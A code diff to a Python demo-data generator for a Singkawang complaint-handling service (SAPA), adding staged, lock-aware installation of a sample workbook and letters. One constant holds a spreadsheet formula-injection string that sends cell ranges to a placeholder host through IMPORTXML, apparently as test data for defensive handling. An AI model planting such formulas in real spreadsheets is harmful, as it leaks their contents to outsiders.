@@ -4,11 +4,20 @@ Every name, number and story here is invented. The rows cover what the worker mu
 handle: online and hotline entries, anonymous reports, messy phone numbers, en_US
 and id_ID date formats, a double submission, a formula injection attempt, a test
 submission and a row with nothing to act on.
+
+The demo is built in a hidden folder beside its place and moved in only when done, so
+an earlier demo is replaced whole or not at all, and never while it is open.
 """
 
 from __future__ import annotations
 
+import errno
+import os
 import random
+import shutil
+import tempfile
+from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import datetime, timedelta
 from pathlib import Path
 
@@ -17,6 +26,8 @@ from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from config.settings import Settings
 from rules.complaint import FIELDS
+from rules.errors import InputError, SapaError, TransientError
+from sync.local_store import lock_file
 
 _REPORTERS = ["Siti Aminah", "Budi Santoso", "Lina Marlina", "Hendra Wijaya", "Nur Aisyah",
               "Rudi Hartono", "Maria Ulfa", "Agus Salim", "Dewi Lestari", "Yohanes Liu", "", ""]
@@ -54,6 +65,7 @@ _KEL = {"Singkawang Barat": ["Pasiran", "Melayu", "Kuala"],
         "Singkawang Timur": ["Nyarumkop", "Pajintan"], "Singkawang Utara": ["Naram", "Setapuk Besar"],
         "Singkawang Selatan": ["Sedau", "Sijangkung"]}
 _CONSENT = "Saya setuju data ini digunakan oleh DSP3A Kota Singkawang untuk penanganan pengaduan"
+WORKBOOK = "sapa-demo.xlsx"
 INJECTION = '=IMPORTXML("http://contoh.invalid/?d="&A2:Z99, "//a")'
 START = datetime(2026, 11, 20, 8, 15, 0)
 
@@ -150,3 +162,81 @@ def write_responses(path: Path, rows: list[dict[str, object]], settings: Setting
             elif isinstance(value, datetime):
                 cell.number_format = "dd/mm/yyyy hh:mm:ss"
     book.save(path)
+
+
+# --- putting the demo in its folder -------------------------------------------------------
+
+
+def letters_folder(folder: Path, settings: Settings) -> Path:
+    """Where the demo's letters go: a folder inside the demo's, which --force may empty."""
+    relative = Path(settings.letters.folder)
+    if relative.is_absolute() or not relative.parts or ".." in relative.parts:
+        raise InputError(
+            f"letters.folder is {settings.letters.folder!r}: the demo needs a folder name inside its own "
+            "folder, such as 'Surat SAPA'. Run the demo with the default configuration."
+        )
+    return folder / relative
+
+
+def check_replaceable(workbook: Path, letters: Path, *, force: bool) -> None:
+    """Refuse to touch an earlier demo unless asked to replace it, and one that is open even then."""
+    earlier = [str(p) for p in (workbook, letters) if p.exists()]
+    if earlier and not force:
+        raise InputError(
+            f"{' and '.join(earlier)} already {'exist' if len(earlier) > 1 else 'exists'} (an earlier demo); "
+            "the demo changed nothing. Pass --force to replace the earlier demo, its letters too, "
+            "or --dir NEW_FOLDER to make a new demo elsewhere."
+        )
+    check_not_open(workbook, letters)
+
+
+def check_not_open(workbook: Path, letters: Path) -> None:
+    """Refuse while an office program has the demo's workbook or one of its letters open."""
+    letter_files = sorted(letters.glob("*.docx")) if letters.is_dir() else []
+    for document in (workbook, *letter_files):
+        lock = lock_file(document)
+        if lock:
+            raise TransientError(
+                f"{document} is open in LibreOffice or Microsoft Office (lock file {lock}); the demo changed "
+                "nothing. "
+                "Close it there and run the demo again."
+            )
+
+
+@contextmanager
+def staging(folder: Path) -> Iterator[Path]:
+    """A hidden folder inside the demo's, on the same disk, so the finished demo moves in with a rename."""
+    try:
+        folder.mkdir(parents=True, exist_ok=True)
+        stage = tempfile.TemporaryDirectory(prefix=".sapa-demo-", dir=folder)
+    except OSError as err:
+        raise InputError(
+            f"cannot make the demo in {folder}: {err.strerror or type(err).__name__}. "
+            "Pass --dir a folder you can write to."
+        ) from None
+    with stage:
+        yield Path(stage.name)
+
+
+def install(stage: Path, workbook: Path, letters: Path) -> None:
+    """Move the demo built in `stage` into place: the workbook in one rename, then its letters."""
+    check_not_open(workbook, letters)  # again: it may have been opened while the demo was built
+    try:
+        os.replace(stage / workbook.name, workbook)
+    except OSError as err:
+        raise _move_error(err, workbook, f"{workbook} was not changed") from None
+    staged_letters = stage / letters.relative_to(workbook.parent)
+    try:
+        if letters.exists():
+            shutil.rmtree(letters)  # the earlier demo's letters: mixed with the new ones, they would mislead
+        if staged_letters.exists():
+            letters.parent.mkdir(parents=True, exist_ok=True)
+            os.replace(staged_letters, letters)
+    except OSError as err:
+        raise _move_error(err, letters, f"the new {workbook.name} is in place but its letters are not") from None
+
+
+def _move_error(err: OSError, target: Path, outcome: str) -> SapaError:
+    reason = "the disk is full" if err.errno == errno.ENOSPC else err.strerror or type(err).__name__
+    return SapaError(f"cannot put the demo at {target}: {reason}; {outcome}. "
+                     "Fix that and run the demo again with --force.")
